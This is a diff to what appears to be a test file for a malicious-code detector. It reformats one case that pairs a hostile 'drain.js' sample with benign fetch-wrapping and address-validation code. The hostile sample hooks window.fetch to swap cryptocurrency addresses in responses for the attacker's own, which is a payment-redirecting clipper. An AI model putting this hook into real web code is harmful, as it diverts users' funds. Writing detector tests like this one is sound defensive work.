@@ -449,10 +449,12 @@ CASES: list[tuple[Rule, str, str, str]] = [
         "drain.js",
         "const swap = (t) => t.replace(/\\b0x[a-fA-F0-9]{40}\\b/g, MINE);\n"
         "const _fetch = window.fetch;\n"
-        "window.fetch = (...a) => _fetch(...a).then((r) => r.text()).then((t) => new Response(swap(t)));\n",
+        "window.fetch = (...a) =>\n"
+        "  _fetch(...a).then((r) => r.text()).then((t) => new Response(swap(t)));\n",
         # a monitoring agent that wraps fetch, and a dapp helper that validates addresses
         "const _fetch = window.fetch;\n"
-        "window.fetch = (...a) => { const t0 = Date.now(); return _fetch(...a).finally(() => report(t0)); };\n"
+        "window.fetch = (...a) => {\n"
+        "  const t0 = Date.now();\n  return _fetch(...a).finally(() => report(t0));\n};\n"
         "export const isAddress = (s) => /^0x[a-fA-F0-9]{40}$/.test(s);\n"
         "if (window.fetch === undefined) polyfill();\n",
     ),
